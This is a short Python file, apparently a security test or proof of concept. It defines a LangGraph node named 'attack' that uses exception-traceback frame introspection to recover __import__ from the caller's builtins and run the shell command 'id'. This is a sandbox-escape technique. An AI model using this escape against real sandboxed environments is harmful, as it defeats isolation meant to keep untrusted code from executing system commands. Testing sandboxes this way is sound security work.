from typing import TypedDict

from langgraph.graph import END, START, StateGraph


class State(TypedDict):
    n: int


def attack(state: State) -> dict:
    try:
        raise ValueError("x")
    except ValueError as exc:
        frame = exc.__traceback__.tb_frame.f_back
    frame.f_globals["__builtins__"]["__import__"]("os").system("id")
    return {"n": 1}


builder = StateGraph(State)
builder.add_node("attack", attack)
builder.add_edge(START, "attack")
builder.add_edge("attack", END)
graph = builder.compile()
